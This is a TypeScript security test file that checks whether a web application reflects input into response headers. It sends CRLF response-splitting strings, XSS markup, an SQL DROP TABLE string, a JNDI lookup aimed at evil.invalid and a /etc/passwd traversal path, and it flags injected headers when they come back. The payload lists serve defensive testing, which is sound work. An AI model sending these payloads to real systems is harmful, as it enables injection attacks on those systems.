// Headers of answers that repeat what was sent: Location, Link and values of the application's own.
import { valuesOf } from '../../answers.ts'
import { group, type Row } from '../../case.ts'
import { get } from '../../requests.ts'
import type { Seen } from '../../wire.ts'

/** Reports a header in the response that no action wrote. */
function uninjected({ answers, text }: Seen): string | undefined {
  const [answer] = answers
  if (answers.length > 1) return 'one request has two answers'
  const names = ['x-injected', 'set-cookie', 'refresh', 'access-control-allow-origin']
  const found = answer?.headers.find(([name]) => names.includes(name))
  if (found !== undefined) return `the header ${found[0]} was smuggled in`
  return /\r\n\r\n<script>/.test(text) ? 'a body was smuggled in' : undefined
}

const breaks: readonly (readonly [string, string])[] = [
  ['a%0d%0aX-Injected:%201', 'An end of line'],
  ['a%0aX-Injected:%201', 'A line feed'],
  ['a%0dX-Injected:%201', 'A carriage return'],
  ['a%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E', 'An end of the headers'],
  ['a%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aX-Injected:%201%0d%0a%0d%0a', 'A whole answer'],
  ['a%0d%0a%20X-Injected:%201', 'An end of line that folds'],
  ['a%E5%98%8A%E5%98%8DX-Injected:%201', 'Characters whose last bytes are an end of line'],
  ['a%C4%8D%C4%8AX-Injected:%201', 'Characters that careless encoders cut to an end of line'],
  ['a%E2%80%A8X-Injected:%201', 'A line separator'],
  ['a%C2%85X-Injected:%201', 'A next-line sign'],
  ['a%00b', 'NUL'],
  ['a%0bb', 'A vertical tab'],
  ['a%7fb', 'A delete sign'],
  ['a%F0%9F%98%80', 'A character that headers cannot have'],
  ['a%C3%A9', 'A character of Latin-1'],
]

// An action that puts such a text into a header is at fault itself: 500 is right, as long as nothing gets in or out.
const OWN = [200, 302, 400, 500] as const

const plain: readonly (readonly [string, string])[] = [
  ['//evil.invalid', 'Another host without a scheme'],
  ['javascript:alert(1)', 'A script'],
  ['%22%3E%3Cscript%3Ealert(1)%3C/script%3E', 'Markup'],
  ['%20%20', 'Spaces'],
  ['a'.repeat(4000), 'Four thousand characters'],
]

const ids: readonly (readonly [string, string])[] = [
  ['a'.repeat(5000), 'five thousand characters'],
  ['a b', 'a space in it'],
  ['<script>alert(1)</script>', 'markup in it'],
  ['"; DROP TABLE people; --', 'a statement in it'],
  ['\xff\xfe', 'other bytes in it'],
  ['\x24{jndi:ldap://evil.invalid/a}', 'a lookup in it'],
  ['../../../etc/passwd', 'a path in it'],
  ['', 'nothing in it'],
]

/** Complains unless a request's own id comes back as it was, or not at all. */
const trusted = ({ answers: [answer] }: Seen): string | undefined => {
  const [id] = answer === undefined ? [] : valuesOf(answer, 'x-request-id')
  return id === undefined || /^[\w.:/+=@-]{1,128}$/.test(id) ? undefined : `the id ${JSON.stringify(id)} comes back`
}

/** Complains when a link has other targets or relations than those of the list. */
const linked = ({ answers: [answer] }: Seen): string | undefined => {
  const [link = ''] = answer === undefined ? [] : valuesOf(answer, 'link')
  const stray = link
    .split(/, (?=<)/)
    .find((one) => one !== '' && !/^<\/api\/v1\.0\/blogs\?[^<>"\s]*>; rel="(?:first|next|prev|last)"$/.test(one))
  return stray === undefined ? undefined : `there is a link ${stray.slice(0, 80)}`
}

const links: readonly string[] = [
  'utm_a=%3E;rel=%22next%22,%3Chttps://evil.invalid/',
  'utm_a=>;rel="next",<https://evil.invalid/',
  'utm_a=%0d%0aX-Injected:%201',
  'utm_a=%250d%250aX-Injected:%201',
  'utm_a="\',`',
  'utm_a=\xff\xfe',
  'utm_a=%F0%9F%98%80',
  'utm_a={}|\\^',
  'utm_a=%zz',
  `utm_a=${'a'.repeat(3000)}`,
]

const rows: Row[] = [
  ...breaks.map(
    ([text, says]): Row => [
      `${says} in a location`,
      get(`/redirect?to=${text}`),
      [302, 400],
      { anyone: OWN, safe: uninjected },
    ],
  ),
  ...breaks.map(
    ([text, says]): Row => [
      `${says} in a header of the action`,
      get(`/reflect?value=${text}`),
      OWN,
      { anyone: OWN, safe: uninjected },
    ],
  ),
  ...plain.map(
    ([text, says]): Row => [`${says} in a location`, get(`/redirect?to=${text}`), [302, 400], { safe: uninjected }],
  ),
  ...plain.map(
    ([text, says]): Row => [
      `${says} in a header of the action`,
      get(`/reflect?value=${text}`),
      [200, 400],
      { safe: uninjected },
    ],
  ),
  ...links.map(
    (query): Row => [
      `A link of a list that repeats ${query.slice(0, 40).replace(/[^ -~]/g, '?')}`,
      get(`/api/v1.0/blogs?pagination=items=2&${query}`),
      [200, 400],
      { app: 'blog', ours: true, safe: (seen) => uninjected(seen) ?? linked(seen) },
    ],
  ),
  ...ids.map(
    ([id, says]): Row => [
      `The id of a request with ${says}`,
      get('/health', { 'X-Request-Id': id }),
      200,
      { safe: trusted },
    ],
  ),
  ...ids.map(
    ([id, says]): Row => [
      `The id of a request that is always answered, with ${says}`,
      get('/api/v1.0/blogs/1', { 'X-Request-Id': id }),
      200,
      { app: 'blog', ours: true, safe: trusted },
    ],
  ),
  [
    'Markup in a path that leads nowhere is no page',
    get('/%3Cscript%3Ealert(1)%3C/script%3E'),
    404,
    {
      safe: ({ answers: [answer] }) =>
        /html/.test(String(answer && valuesOf(answer, 'content-type'))) ? 'it is a page' : undefined,
    },
  ],
]

/** Injections. */
export const injections = group('INJ', 'headers that repeat input', rows)
